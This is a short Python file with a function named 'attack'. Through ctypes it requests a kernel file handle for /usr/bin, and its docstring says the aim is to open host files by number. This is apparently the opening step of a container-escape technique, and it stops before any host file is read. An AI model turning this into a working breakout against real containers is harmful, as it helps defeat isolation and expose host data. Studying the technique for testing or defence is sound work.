"""Ask for a file handle, to open host files by number."""
import ctypes
import os
import struct

AT_FDCWD = -100


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(AT_FDCWD, b"/usr/bin", handle, ctypes.byref(mount_id), 0) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True
